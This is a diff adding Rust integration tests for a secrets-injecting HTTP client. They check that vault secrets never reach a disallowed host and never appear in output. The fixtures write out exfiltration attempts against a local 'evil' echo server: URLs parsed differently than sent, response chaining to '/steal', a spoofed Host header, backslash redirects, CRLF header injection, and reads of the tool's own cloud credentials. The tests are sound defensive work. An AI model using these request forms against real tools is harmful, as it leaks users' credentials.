@@ -21,16 +21,29 @@ struct Setup {
 /// `fixture` with `ECHO` replaced by the echo server's URL. Every project links `api-token`
 /// (allowed on 127.0.0.1) and `limited` (allowed only on api.example.com).
 fn setup(fixture: &str) -> Setup {
+    setup_with(fixture, &[])
+}
+
+/// [`setup`], with more secrets `(name, value)`, each allowed only on 127.0.0.1.
+fn setup_with(fixture: &str, more: &[(&str, &str)]) -> Setup {
     let emu = Emulator::start();
     emu.add_secret(KV, "api-token", SECRET);
     emu.add_secret(KV, "limited", "limited-value-xyz");
+    let mut extra = String::new();
+    for (name, value) in more {
+        emu.add_secret(KV, name, value);
+        extra.push_str(&format!(
+            r#",
+    "{name}": {{ "link": "https://{KV}/secrets/{name}", "allowedDomains": ["127.0.0.1"] }}"#
+        ));
+    }
     let echo = Echo::start();
     let links = format!(
         r#"//- /vaultlink.json
 {{
   "secrets": {{
     "api-token": {{ "link": "https://{KV}/secrets/api-token", "allowedDomains": ["127.0.0.1", "localhost"] }},
-    "limited": {{ "link": "https://{KV}/secrets/limited", "allowedDomains": ["api.example.com"] }}
+    "limited": {{ "link": "https://{KV}/secrets/limited", "allowedDomains": ["api.example.com"] }}{extra}
   }}
 }}
 "#
@@ -735,4 +748,674 @@ fn https_speaks_http2_when_the_server_offers_it() {
         "the server saw HTTP/2: {}",
         run.stdout
     );
+}
+
+// ---------------------------------------------------------------------------------------------
+// Hostile files: where a secret may go, and every form it may take on the way back.
+
+const SCHEMA: &str = "https://schema.getpostman.com/json/collection/v2.1.0/collection.json";
+
+/// The findings of `check --offline --format json` in `file`, as `(line, code)`.
+fn offline_findings(s: &Setup, args: &[&str], file: &str) -> Vec<(u64, String)> {
+    let mut all = vec!["check", "--offline", "--format", "json"];
+    all.extend_from_slice(args);
+    let run = run_with(s.project.dir.path(), &all, &s.env());
+    let found: Value = serde_json::from_str(&run.stdout)
+        .unwrap_or_else(|e| panic!("not JSON ({e}): {}\n{}", run.stdout, run.stderr));
+    found
+        .as_array()
+        .unwrap()
+        .iter()
+        .filter(|f| f["file"].as_str().unwrap().ends_with(file))
+        .map(|f| {
+            (
+                f["line"].as_u64().unwrap(),
+                f["code"].as_str().unwrap().to_owned(),
+            )
+        })
+        .collect()
+}
+
+#[test]
+fn a_url_read_otherwise_than_it_is_sent_never_carries_a_secret_and_check_flags_it() {
+    let evil = Echo::start_at("127.0.0.2");
+    let e = format!("127.0.0.2:{}", evil.port());
+    let s = setup(&format!(
+        r#"//- /http-client.env.json
+{{"dev": {{"envHost": "http://{e}\\@127.0.0.1"}}}}
+//- /api.http
+@h = http://{e}\@127.0.0.1
+
+### direct
+GET http://{e}\@127.0.0.1/bs
+X-Secret: {{{{vault:api-token}}}}
+
+### backslashes for slashes
+GET http:\\{e}\@127.0.0.1/bs
+X-Secret: {{{{vault:api-token}}}}
+
+### through a file variable
+GET {{{{h}}}}/bs
+X-Secret: {{{{vault:api-token}}}}
+
+### through an environment
+GET {{{{envHost}}}}/bs
+X-Secret: {{{{vault:api-token}}}}
+"#
+    ));
+    let header = json!([{ "key": "X-Secret", "value": "{{vault:api-token}}" }]);
+    let coll = json!({
+        "info": { "name": "c", "schema": SCHEMA },
+        "item": [
+            { "name": "raw", "request": { "method": "GET", "header": header,
+                "url": { "raw": format!("http://{e}\\@127.0.0.1/bs") } } },
+            { "name": "object", "request": { "method": "GET", "header": header,
+                "url": { "protocol": "http", "path": ["bs"],
+                    "host": ["127", "0", "0", format!("2:{}\\@127", evil.port()), "0", "0", "1"] } } }
+        ]
+    });
+    std::fs::write(
+        s.project.path("c.postman_collection.json"),
+        coll.to_string(),
+    )
+    .unwrap();
+
+    for (file, requests, env) in [
+        ("api.http", 4, &["--env", "dev"][..]),
+        ("c.postman_collection.json", 2, &[]),
+    ] {
+        for n in 1..=requests {
+            let n = n.to_string();
+            let mut args = vec![file, "--request", &n];
+            args.extend_from_slice(env);
+            let run = s.send(&args);
+            assert_eq!(run.code, 1, "{file} #{n}: {}\n{}", run.stdout, run.stderr);
+            assert!(
+                run.stderr.contains("counts as `/` when it is sent")
+                    && run.stderr.contains("`127.0.0.2`"),
+                "{file} #{n}: {}",
+                run.stderr
+            );
+        }
+    }
+    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
+    assert!(s.echo.requests().is_empty());
+    assert!(s.emu.requests().is_empty(), "no secret was fetched");
+
+    // Offline, each of those URLs is an error, and the host it really goes to is checked.
+    let http = offline_findings(&s, &["--env", "dev", "api.http"], "api.http");
+    for line in [4, 8, 12, 16] {
+        assert!(
+            http.contains(&(line, "syntax-error".to_owned())),
+            "{http:?}"
+        );
+        assert!(
+            http.contains(&(line + 1, "domain-not-allowed".to_owned())),
+            "{http:?}"
+        );
+    }
+    let coll = offline_findings(
+        &s,
+        &["c.postman_collection.json"],
+        "c.postman_collection.json",
+    );
+    let count = |code: &str| coll.iter().filter(|(_, c)| c == code).count();
+    assert_eq!(
+        (count("syntax-error"), count("domain-not-allowed")),
+        (2, 2),
+        "{coll:?}"
+    );
+}
+
+#[test]
+fn a_value_read_from_a_response_goes_only_where_the_secret_behind_it_may_go() {
+    let evil = Echo::start_at("127.0.0.2");
+    let chain = r#"//- /chain.http
+### first
+# @name first
+POST ECHO/first
+Content-Type: text/plain
+
+{{vault:api-token}}
+
+### to another host
+# @name second
+GET EVIL/steal?v={{first.response.body.body}}
+
+### to the same host
+# @name third
+GET ECHO/again?v={{first.response.body.body}}&h={{first.response.headers.X-Echo-Auth}}
+
+### through two responses
+GET EVIL/steal-again?v={{third.response.body.target}}
+"#
+    .replace("EVIL", &evil.url());
+    let s = setup(&chain);
+    let run = s.send(&["chain.http", "--all"]);
+    assert_eq!(run.code, 1, "{}\n{}", run.stdout, run.stderr);
+    assert!(
+        run.stderr.contains(
+            "the secret `api-token` (it reaches this request through the response to `first`, which carried it) may not be sent to `127.0.0.2`"
+        ),
+        "{}",
+        run.stderr
+    );
+    assert!(
+        run.stderr
+            .contains("through the response to `third`, which carried it"),
+        "{}",
+        run.stderr
+    );
+    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
+    let got = s.echo.requests();
+    assert_eq!(got.len(), 2, "first and third were sent");
+    assert_eq!(body(&got[0]), SECRET);
+    assert!(
+        !got[1].target.contains("tok-S3CRET"),
+        "responses are kept masked: {}",
+        got[1].target
+    );
+    assert_no_secret("stdout", &run.stdout);
+    assert_no_secret("stderr", &run.stderr);
+
+    // The editor keeps responses for the session: the same holds there.
+    let env = s.env();
+    let mut client = Client::start_with(
+        s.project.dir.path(),
+        Options {
+            env: &env,
+            ..Options::default()
+        },
+    );
+    let text = s.project.read("chain.http");
+    let uri = client.open(&s.project.path("chain.http"), &text);
+    let line_of = |needle: &str| text.lines().position(|l| l.contains(needle)).unwrap();
+    let mut send_at = |needle: &str| {
+        client.request(
+            "workspace/executeCommand",
+            json!({
+                "command": "vaultlink.sendRequest",
+                "arguments": [{ "uri": uri, "position": { "line": line_of(needle), "character": 0 } }]
+            }),
+        )
+    };
+    let first = send_at("POST ").unwrap();
+    assert_eq!(first["status"], 200, "{first}");
+    let third = send_at("/again?").unwrap();
+    assert_eq!(third["status"], 200, "{third}");
+    assert!(
+        third["request"]["url"].as_str().unwrap().contains("v=***"),
+        "{third}"
+    );
+    let refused = send_at("/steal?").unwrap_err();
+    assert!(
+        refused["message"]
+            .as_str()
+            .unwrap()
+            .contains("through the response to `first`"),
+        "{refused}"
+    );
+    let refused = send_at("/steal-again?").unwrap_err();
+    assert!(
+        refused["message"]
+            .as_str()
+            .unwrap()
+            .contains("through the response to `third`"),
+        "{refused}"
+    );
+    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
+    let transcript: String = client.transcript().into_iter().map(|(_, m)| m).collect();
+    assert_no_secret("the LSP messages", &transcript);
+    client.shutdown();
+}
+
+#[test]
+fn a_host_header_naming_another_host_is_refused_with_a_secret() {
+    let s = setup(
+        "//- /front.http\n### fronted\nGET ECHO/x\nHost: evil.example\nX-Key: {{vault:api-token}}\n\n### same host\nGET ECHO/x\nHost: 127.0.0.1:1234\nX-Key: {{vault:api-token}}\n\n### no secret\nGET ECHO/x\nHost: evil.example\n",
+    );
+    let run = s.send(&["front.http", "--request", "fronted"]);
+    assert_eq!(run.code, 1, "{}", run.stderr);
+    assert!(
+        run.stderr.contains(
+            "its `Host` header names `evil.example`, another host than the URL's `127.0.0.1`"
+        ),
+        "{}",
+        run.stderr
+    );
+    assert!(s.echo.requests().is_empty());
+    assert!(s.emu.requests().is_empty(), "nothing was fetched");
+
+    let run = s.send(&["front.http", "--request", "3"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(
+        header(&s.echo.requests()[0], "host"),
+        Some("evil.example"),
+        "without a secret the header is the user's to set"
+    );
+    let run = s.send(&["front.http", "--request", "2"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+}
+
+#[test]
+fn vaultlinks_own_credentials_are_never_sent_nor_shown() {
+    let s = setup(
+        "//- /.env\nAZURE_CLIENT_SECRET=from-dotenv-credential\n//- /creds.http\n### env\nGET ECHO/x?k={{$processEnv AZURE_CLIENT_SECRET}}\n\n### dotenv\nGET ECHO/x?k={{$dotenv AZURE_CLIENT_SECRET}}\n\n### aws\nGET ECHO/x\nX-K: {{$processEnv aws_secret_access_key}}\n\n### copy\nGET ECHO/x?k={{$processEnv VL_COPY}}\n",
+    );
+    let credential = s
+        .env()
+        .into_iter()
+        .find(|(k, _)| k == "AZURE_CLIENT_SECRET")
+        .unwrap()
+        .1;
+    let mut env = s.env();
+    env.push((
+        "AWS_SECRET_ACCESS_KEY".to_owned(),
+        "aws-credential-value".to_owned(),
+    ));
+    env.push(("VL_COPY".to_owned(), credential.clone()));
+    let send = |args: &[&str]| {
+        let mut all = vec!["send", "creds.http"];
+        all.extend_from_slice(args);
+        run_with(s.project.dir.path(), &all, &env)
+    };
+    for request in ["env", "dotenv", "aws"] {
+        for dry in [true, false] {
+            let mut args = vec!["--request", request];
+            if dry {
+                args.push("--dry-run");
+            }
+            let run = send(&args);
+            assert_eq!(run.code, 1, "{request}: {}\n{}", run.stdout, run.stderr);
+            assert!(
+                run.stderr.contains(
+                    "is a credential vaultlink signs in with, and it is never sent or shown"
+                ),
+                "{request}: {}",
+                run.stderr
+            );
+            for value in [
+                &credential,
+                "from-dotenv-credential",
+                "aws-credential-value",
+            ] {
+                assert!(!run.stdout.contains(value) && !run.stderr.contains(value));
+            }
+        }
+    }
+    assert!(s.echo.requests().is_empty(), "{:#?}", s.echo.requests());
+
+    // The same value under another name is sent, but never shown.
+    let run = send(&["--request", "copy", "--json"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(s.echo.requests().len(), 1);
+    assert!(run.stdout.contains("k=***"), "{}", run.stdout);
+    assert!(!run.stdout.contains(&credential), "{}", run.stdout);
+}
+
+#[test]
+fn redirects_spelled_with_a_backslash_or_without_a_scheme_are_not_followed_with_a_secret() {
+    let evil = Echo::start_at("127.0.0.2");
+    for location in [
+        "/\\127.0.0.2:PORT/x",
+        "//127.0.0.2:PORT/x",
+        "\\\\127.0.0.2:PORT/x",
+    ] {
+        let to: String = url::form_urlencoded::byte_serialize(
+            location
+                .replace("PORT", &evil.port().to_string())
+                .as_bytes(),
+        )
+        .collect();
+        let s = setup(&format!(
+            "//- /r.http\nGET ECHO/redirect?to={to}\nX-Key: {{{{vault:api-token}}}}\n"
+        ));
+        let run = s.send(&["r.http"]);
+        assert_eq!(run.code, 0, "{location}: {}", run.stderr);
+        assert!(
+            run.stderr
+                .contains("another origin; the redirect was not followed"),
+            "{location}: {}",
+            run.stderr
+        );
+    }
+    assert!(evil.requests().is_empty());
+}
+
+#[test]
+fn a_secret_in_a_host_or_a_value_that_moves_the_host_is_refused() {
+    let evil = Echo::start_at("127.0.0.2");
+    let s = setup_with(
+        "//- /h.http\n### in the host\nGET http://{{vault:api-token}}.localhost/x\n\n### moves the host\nGET http://u:{{vault:moving}}@HOSTPORT/x\n\n### through a variable\n@t = {{vault:limited}}\nGET ECHO/x\nX-Key: {{t}}\n",
+        &[("moving", &format!("p@127.0.0.2:{}/", evil.port()))],
+    );
+    let file = s.project.path("h.http");
+    let text = std::fs::read_to_string(&file)
+        .unwrap()
+        .replace("HOSTPORT", &format!("127.0.0.1:{}", s.echo.port()));
+    std::fs::write(&file, text).unwrap();
+    let run = s.send(&["h.http", "--request", "1"]);
+    assert_eq!(run.code, 1);
+    assert!(
+        run.stderr
+            .contains("a `{{vault:…}}` reference is part of the URL's host"),
+        "{}",
+        run.stderr
+    );
+    let run = s.send(&["h.http", "--request", "2"]);
+    assert_eq!(run.code, 1);
+    assert!(
+        run.stderr
+            .contains("the value of a secret changes the host of"),
+        "{}",
+        run.stderr
+    );
+    let run = s.send(&["h.http", "--request", "3"]);
+    assert_eq!(run.code, 1);
+    assert!(
+        run.stderr
+            .contains("the secret `limited` may not be sent to `127.0.0.1`"),
+        "{}",
+        run.stderr
+    );
+    assert!(evil.requests().is_empty(), "{:#?}", evil.requests());
+    assert!(s.echo.requests().is_empty());
+}
+
+#[test]
+fn crlf_from_a_secret_or_a_variable_never_reaches_the_wire() {
+    let s = setup_with(
+        "//- /crlf.http\n### secret\nGET ECHO/x\nX-A: {{vault:crlf}}\n\n### variable\nGET ECHO/x\nX-A: {{$processEnv VL_CRLF}}\n",
+        &[("crlf", "a\r\nX-Injected: 1")],
+    );
+    let mut env = s.env();
+    env.push(("VL_CRLF".to_owned(), "b\r\nX-Injected: 2".to_owned()));
+    for request in ["secret", "variable"] {
+        let run = run_with(
+            s.project.dir.path(),
+            &["send", "crlf.http", "--request", request],
+            &env,
+        );
+        assert_eq!(run.code, 1, "{request}: {}", run.stderr);
+        assert!(
+            run.stderr.contains("is not a valid header value"),
+            "{}",
+            run.stderr
+        );
+    }
+    assert!(s.echo.requests().is_empty());
+}
+
+/// Where `text` still holds `value` whole: as is, or decoded once from percent-encoding
+/// (with or without `+` for spaces), JSON escapes, base64 or base64url (from each of four
+/// starting characters) or hex (from each of two starting digits). Decoding here is
+/// independent of how vaultlink masks.
+fn leak(text: &str, value: &str) -> Option<&'static str> {
+    let decoded = |v: &str| {
+        String::from_utf8_lossy(&percent_encoding::percent_decode_str(v).collect::<Vec<u8>>())
+            .into_owned()
+    };
+    // A server that decodes URLs or forms gets the value decoded: that is the value too.
+    // A URL drops tabs and line breaks: the value without them is the value too.
+    let stripped = value.replace(['\t', '\n', '\r'], "");
+    [value.to_owned(), stripped]
+        .iter()
+        .flat_map(|s| [s.clone(), s.replace('+', " ")])
+        .flat_map(|p| [decoded(&p), p])
+        .find_map(|v| leak_of(text, &v))
+}
+
+fn leak_of(text: &str, value: &str) -> Option<&'static str> {
+    use base64::Engine as _;
+    let v = value.as_bytes();
+    let has = |b: &[u8]| b.windows(v.len()).any(|w| w == v);
+    if has(text.as_bytes()) {
+        return Some("raw");
+    }
+    if has(&percent_encoding::percent_decode_str(text).collect::<Vec<u8>>())
+        || has(&percent_encoding::percent_decode_str(&text.replace('+', " ")).collect::<Vec<u8>>())
+    {
+        return Some("percent-encoded");
+    }
+    if has(unescape_json(text).as_bytes()) {
+        return Some("JSON-escaped");
+    }
+    let runs = |is: fn(u8) -> bool| -> Vec<&str> {
+        text.split(|c: char| !c.is_ascii() || !is(c as u8))
+            .filter(|r| r.len() >= 4)
+            .collect()
+    };
+    for (name, is, engine) in [
+        (
+            "base64",
+            (|c: u8| c.is_ascii_alphanumeric() || c == b'+' || c == b'/') as fn(u8) -> bool,
+            base64::engine::general_purpose::STANDARD_NO_PAD,
+        ),
+        (
+            "base64url",
+            |c: u8| c.is_ascii_alphanumeric() || c == b'-' || c == b'_',
+            base64::engine::general_purpose::URL_SAFE_NO_PAD,
+        ),
+    ] {
+        for run in runs(is) {
+            for start in 0..4.min(run.len()) {
+                let part = &run[start..];
+                let part = &part[..part.len() / 4 * 4];
+                if let Ok(bytes) = engine.decode(part)
+                    && has(&bytes)
+                {
+                    return Some(name);
+                }
+            }
+        }
+    }
+    for run in runs(|c| c.is_ascii_hexdigit()) {
+        for start in 0..2 {
+            let bytes: Vec<u8> = run.as_bytes()[start..]
+                .chunks_exact(2)
+                .filter_map(|p| u8::from_str_radix(std::str::from_utf8(p).ok()?, 16).ok())
+                .collect();
+            if has(&bytes) {
+                return Some("hex");
+            }
+        }
+    }
+    None
+}
+
+/// `text` with JSON string escapes (`\"`, `\/`, `\n`, `\uXXXX` with surrogate pairs) decoded.
+fn unescape_json(text: &str) -> String {
+    let mut out = String::new();
+    let mut units: Vec<u16> = Vec::new();
+    let mut chars = text.chars().peekable();
+    let flush = |units: &mut Vec<u16>, out: &mut String| {
+        out.extend(char::decode_utf16(units.drain(..)).map(|c| c.unwrap_or('\u{fffd}')));
+    };
+    while let Some(c) = chars.next() {
+        if c == '\\' {
+            match chars.peek() {
+                Some('u') => {
+                    chars.next();
+                    let hex: String = chars.by_ref().take(4).collect();
+                    if let Ok(u) = u16::from_str_radix(&hex, 16) {
+                        units.push(u);
+                        continue;
+                    }
+                    flush(&mut units, &mut out);
+                    out.push_str(&hex);
+                    continue;
+                }
+                Some(&e) => {
+                    chars.next();
+                    flush(&mut units, &mut out);
+                    out.push(match e {
+                        'n' => '\n',
+                        'r' => '\r',
+                        't' => '\t',
+                        other => other,
+                    });
+                    continue;
+                }
+                None => {}
+            }
+        }
+        flush(&mut units, &mut out);
+        out.push(c);
+    }
+    flush(&mut units, &mut out);
+    out
+}
+
+/// Requests that put the secret `v` in every part of a request, to an echo server that
+/// sends it back as is and re-encoded (`/enc`), and to an address that refuses connections.
+const PLACES: &str = r#"//- /places.http
+### query
+GET ECHO/enc?k={{vault:v}}&n=1
+
+### path
+GET ECHO/enc/{{vault:v}}/x
+
+### fragment
+GET ECHO/enc#{{vault:v}}
+
+### userinfo
+GET http://u:{{vault:v}}@127.0.0.1:PORT/enc-userinfo
+
+### header
+GET ECHO/enc
+X-Secret: {{vault:v}}
+
+### basic
+GET ECHO/enc
+Authorization: Basic u {{vault:v}}
+
+### json body
+POST ECHO/echo
+Content-Type: application/json
+
+{"v": "{{vault:v}}"}
+
+### form body
+POST ECHO/enc
+Content-Type: application/x-www-form-urlencoded
+
+k={{vault:v}}&n=1
+
+### unreachable
+GET http://127.0.0.1:1/?k={{vault:v}}
+"#;
+
+/// Sends every request of [`PLACES`] with `value` as the secret, from the command line
+/// (text, `--json`, `--dry-run`) and from the editor, and checks that no output, message
+/// or answer holds any form of it.
+fn check_every_output_masks(value: &str) -> Vec<Got> {
+    let s = setup_with(PLACES, &[("v", value)]);
+    let places = s.project.path("places.http");
+    let text = std::fs::read_to_string(&places)
+        .unwrap()
+        .replace("PORT", &s.echo.port().to_string());
+    std::fs::write(&places, &text).unwrap();
+    let check = |what: &str, out: &str| {
+        if let Some(form) = leak(out, value) {
+            panic!("the value {value:?} is in {what}, {form}:\n{out}");
+        }
+    };
+    for args in [
+        &["--all"][..],
+        &["--all", "--json"],
+        &["--all", "--dry-run"],
+        &["--all", "--dry-run", "--json"],
+    ] {
+        let mut all = vec!["places.http"];
+        all.extend_from_slice(args);
+        let run = s.send(&all);
+        assert!(
+            run.stdout.contains("HTTP/1.1 200")
+                || run.stdout.contains("\"status\":200")
+                || args.contains(&"--dry-run"),
+            "{args:?}: {}\n{}",
+            run.stdout,
+            run.stderr
+        );
+        check(&format!("the stdout of send {args:?}"), &run.stdout);
+        check(&format!("the stderr of send {args:?}"), &run.stderr);
+    }
+    let sent = s.echo.requests();
+    assert!(sent.len() >= 6, "most requests went out: {sent:#?}");
+
+    let env = s.env();
+    let mut client = Client::start_with(
+        s.project.dir.path(),
+        Options {
+            env: &env,
+            ..Options::default()
+        },
+    );
+    let uri = client.open(&places, &text);
+    for (line, l) in text.lines().enumerate() {
+        if l.starts_with("GET ") || l.starts_with("POST ") {
+            let answer = client.request(
+                "workspace/executeCommand",
+                json!({
+                    "command": "vaultlink.sendRequest",
+                    "arguments": [{ "uri": uri, "position": { "line": line, "character": 0 } }]
+                }),
+            );
+            let answer = match answer {
+                Ok(v) | Err(v) => v.to_string(),
+            };
+            check(&format!("the editor's answer for `{l}`"), &answer);
+        }
+    }
+    let transcript: String = client.transcript().into_iter().map(|(_, m)| m).collect();
+    check("the LSP messages", &transcript);
+    check("the server's stderr", &client.stderr());
+    client.shutdown();
+    sent
+}
+
+#[test]
+fn a_value_with_spaces_slashes_and_quotes_is_masked_in_urls_userinfo_and_errors() {
+    check_every_output_masks("my pass/word \"q\"+%41");
+    // Without a `/`, the value fits in the URL's userinfo, which is sent as Basic; the tab
+    // is dropped from a URL.
+    let value = "my pass\tword \"q\"+%41é";
+    let sent = check_every_output_masks(value);
+    let userinfo = sent
+        .iter()
+        .find(|g| g.target == "/enc-userinfo")
+        .unwrap_or_else(|| panic!("{sent:#?}"));
+    assert!(
+        header(userinfo, "authorization").is_some_and(|a| a.starts_with("Basic ")),
+        "{userinfo:#?}"
+    );
+}
+
+#[test]
+fn a_value_echoed_as_base64_hex_or_unicode_escapes_is_masked() {
+    let s = setup("//- /e.http\nGET ECHO/enc\nX-Secret: {{vault:api-token}}\n");
+    let run = s.send(&["e.http"]);
+    assert_eq!(run.code, 0, "{}", run.stderr);
+    assert_eq!(run.stdout.matches("***").count(), 18, "{}", run.stdout);
+    if let Some(form) = leak(&run.stdout, SECRET) {
+        panic!("the secret is in the output, {form}:\n{}", run.stdout);
+    }
+}
+
+#[test]
+fn no_output_holds_any_form_of_random_values() {
+    use rand::Rng as _;
+    const ALPHABET: &[&str] = &[
+        "a", "Z", "0", "9", " ", "/", "\"", "+", "%", "%2F", "é", "€", "😀", "\\", "&", "=", "?",
+        "#", "@", ":", "'", "<", ">", "~", "`", "^", "|", ";", ",", "$", "!", "*", "(", "[", "\t",
+    ];
+    let mut rng = rand::rng();
+    for _ in 0..4 {
+        let len = rng.random_range(8..20);
+        let mut value = String::from("Rv");
+        for _ in 0..len {
+            value.push_str(ALPHABET[rng.random_range(0..ALPHABET.len())]);
+        }
+        check_every_output_masks(&value);
+    }
 }
